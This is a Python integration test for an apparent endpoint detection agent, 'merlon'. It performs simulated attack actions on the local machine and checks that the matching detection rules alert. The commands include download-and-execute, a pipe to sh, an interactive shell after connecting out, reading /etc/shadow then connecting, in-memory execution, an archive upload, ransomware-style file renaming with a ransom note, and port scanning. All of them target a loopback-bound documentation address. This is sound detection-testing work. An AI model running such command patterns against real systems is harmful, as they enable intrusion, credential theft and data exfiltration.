"""The shipped rules over several events, live: real acts on this machine raise the alerts that they
should. Connections go to an address of documentation that is put on the loopback device meanwhile."""
import glob
import http.server
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import tomllib

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import tap  # noqa: E402

MERLON = sys.argv[1]
RULES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "rules")
ADDRESS = "203.0.113.77"
WITHIN_S = 10
PYTHON = os.path.realpath(sys.executable)
CONNECT = f"import socket,os,subprocess; s = socket.create_connection(('{ADDRESS}', {{port}}));"

# {rule: (shell command, programs that it needs)}; {dir} is a directory of its own, {url} a server
ACTS = {
    "cross/execution/downloaded_file_run":
        ("curl -so {dir}/tool {url}/true; chmod 755 {dir}/tool; {dir}/tool", ["curl"]),
    "linux/execution/temp_file_made_executable_run_removed":
        ("cp /bin/true {dir}/t; chmod 755 {dir}/t; {dir}/t; rm {dir}/t", []),
    "cross/execution/download_beside_bare_shell":
        ("sh -c 'curl -s {url}/script | sh'", ["curl"]),
    "cross/execution/connection_then_interactive_shell":
        ("{python} -c \"" + CONNECT + " subprocess.run(['/bin/sh', '-i'], stdin=subprocess.DEVNULL)\"", []),
    "linux/execution/connected_process_becomes_shell":
        ("{python} -c \"" + CONNECT + " os.execl('/bin/sh', 'sh')\" </dev/null", []),
    "cross/initial_access/download_below_web_server":
        ("cp /bin/bash {dir}/nginx; {dir}/nginx -c \"sh -c 'id; curl -s {url}/script; :'; :\"", ["curl"]),
    "cross/initial_access/web_server_shell_looks_around_and_connects":
        ("cp /bin/bash {dir}/nginx; {dir}/nginx -c \"sh -c 'id; curl -s {url}/script; :'; :\"", ["curl"]),
    "cross/execution/download_below_document_program":
        ("cp /bin/bash {dir}/soffice.bin; {dir}/soffice.bin -c \"sh -c 'curl -s {url}/script; :'; :\"", ["curl"]),
    "linux/credential_access/password_hashes_read_then_connection":
        ("{python} -c \"open('/etc/shadow').read(1); " + CONNECT + "\"", []),
    "linux/defense_evasion/program_deletes_itself":
        ("cp {python} {dir}/own; {dir}/own -c \"import os; os.unlink('{dir}/own')\"", []),
    "linux/defense_evasion/memory_program_connects":
        ("{python} -c \"import os; m = os.memfd_create('x', 0); os.write(m, open('{python}', 'rb').read()); "
         "os.execv('/proc/self/fd/%d' % m, ['x', '-c', 'import socket; "
         "socket.create_connection((\\\"" + ADDRESS + "\\\", {port}))'])\"", []),
    "linux/discovery/survey_then_connection":
        ("printf 'id; whoami; ps; w; df; uptime; lsblk; lscpu; curl -s {url}/script; :' >{dir}/s; bash {dir}/s", ["curl"]),
    "cross/exfiltration/archive_made_then_uploaded":
        ("echo x >{dir}/a; tar -C {dir} -czf {dir}/o.tgz a; curl -s -T {dir}/o.tgz {url}/o.tgz", ["curl", "tar"]),
    "linux/defense_evasion/program_gets_name_of_service_and_runs":
        ("cp /bin/true {dir}/x; mv {dir}/x {dir}/crond; {dir}/crond", []),
    "cross/impact/many_files_renamed_then_note":
        ("cd {dir}; for i in $(seq 15); do echo >$i.pdf; done; {python} -c \"import os; "
         "[os.rename('%d.pdf' % i, '%d.pdf.locked' % i) for i in range(1, 16)]; "
         "open('HOW_TO_DECRYPT.txt', 'w').write('x')\"", []),
    "cross/lateral_movement/one_program_tries_many_ssh_servers":
        ("{python} -c \"import socket; [socket.socket().connect_ex(('" + ADDRESS + "', 22)) for i in range(10)]\"", []),
    "cross/discovery/one_program_tries_services_of_many_kinds":
        ("{python} -c \"import socket; [socket.socket().connect_ex(('" + ADDRESS + "', p)) for p in (22, 445, 3306)]\"", []),
}
INNOCENT = ("{python} -c \"" + CONNECT + "\"", "curl -s http://127.0.0.1:{port}/script | sh", "sh -c 'id; uname -a; df'",
            "cp /bin/true {dir}/mine; chmod 755 {dir}/mine; {dir}/mine", "tar -C {dir} -czf {dir}/backup.tgz .")


class Server(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"true\n"
        if self.path == "/true":
            with open("/bin/true", "rb") as program:
                body = program.read()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_PUT(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


def rule_ids():
    ids = {}
    for path in glob.glob(os.path.join(RULES, "*", "*", "*.toml")):
        with open(path, "rb") as file:
            ids[os.path.relpath(path, RULES)[:-len(".toml")]] = tomllib.load(file)["rule"]["id"]
    return ids


def alerts(output):
    """The ids of rules that alerted so far."""
    try:
        with open(output, encoding="utf-8") as lines:
            rows = [json.loads(line) for line in lines if line.endswith("\n")]
    except FileNotFoundError:
        return []
    return [row["rule"]["id"] for row in rows if row["kind"] == "alert"]


def act(command, **words):
    """Runs the command below a shell of its own, so that no two acts have a parent in common."""
    place = tempfile.mkdtemp(prefix="merlon-acts-", dir="/tmp")
    os.chmod(place, 0o755)
    try:
        subprocess.run(command.format(dir=place, python=PYTHON, **words), shell=True, capture_output=True,
                       start_new_session=True, stdin=subprocess.DEVNULL, timeout=60)
    finally:
        shutil.rmtree(place)


def innocent(output, ids, words):
    """The rules that alert each time; somebody else's acts on this machine may alert one of them once."""
    names = {rule: name for name, rule in ids.items()}
    loud = set(names.values())
    for _ in range(3):
        before = len(alerts(output))
        for command in INNOCENT:
            act(command, **words)
        time.sleep(2)
        loud &= {names[rule] for rule in alerts(output)[before:] if rule in names}
    return loud


def run(data, ids, words):
    output = os.path.join(data, "alerts")
    agent = subprocess.Popen([MERLON, "agent", "--data", data, "--rules", RULES, "--output", output],
                             stderr=subprocess.DEVNULL)
    try:
        tap.wait_for(lambda: subprocess.run([MERLON, "status", "--data", data],
                                            capture_output=True).returncode == 0, 60)
        time.sleep(1)
        tap.equal("innocent acts alert no rule over several events", innocent(output, ids, words), set())
        for rule, (command, programs) in ACTS.items():
            lacking = [program for program in programs if shutil.which(program) is None]
            if lacking:
                tap.skip(rule, f"no {lacking[0]} here")
                continue
            before = alerts(output).count(ids[rule])
            act(command, **words)
            tap.check(rule, tap.wait_for(lambda: alerts(output).count(ids[rule]) > before, WITHIN_S))
    finally:
        agent.send_signal(signal.SIGTERM)
        agent.wait(30)


def put_address(verb):
    ip = shutil.which("ip")
    return ip is not None and subprocess.run([ip, "address", verb, ADDRESS + "/32", "dev", "lo"],
                                             capture_output=True).returncode == 0


def main():
    data = tempfile.mkdtemp(prefix="merlon-test-")
    probe = subprocess.run([MERLON, "agent", "--no-rules", "--for", "1s", "--sensor", "bpf", "--data", data],
                           capture_output=True, text=True)
    if os.geteuid() != 0 or probe.returncode != 0:
        tap.skip("sequences", (probe.stderr.strip().splitlines() or ["needs root"])[-1])
    elif not put_address("add"):
        tap.skip("sequences", f"{ADDRESS} cannot be put on the loopback device")
    else:
        try:
            server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Server)
            threading.Thread(target=server.serve_forever, daemon=True).start()
            port = server.server_address[1]
            run(data, rule_ids(), {"port": port, "url": f"http://{ADDRESS}:{port}"})
        finally:
            put_address("del")
    shutil.rmtree(data, ignore_errors=True)
    tap.done()


main()
